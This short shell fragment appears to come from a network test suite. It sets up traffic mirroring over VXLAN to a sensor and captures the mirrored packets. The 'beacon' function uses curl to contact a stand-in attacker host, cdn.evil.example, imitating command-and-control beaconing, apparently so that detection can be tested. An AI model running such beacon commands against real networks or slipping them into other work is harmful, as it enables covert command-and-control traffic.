# A beacon as a sensor sees it that gets a copy of the product's traffic in VXLAN (VNI 42). Only the mirror's packets
# are captured, at the sensor.

beacon() { on v3 curl -sS -4 -o "$work/answer" --cacert "$work/pki/trusted.pem" -A '' "https://cdn.evil.example/i?n=1"; }

mirror_to_sensor
filter='udp port 4789'
capture_host=sensor
capture_device=eth0
part 490 beacon
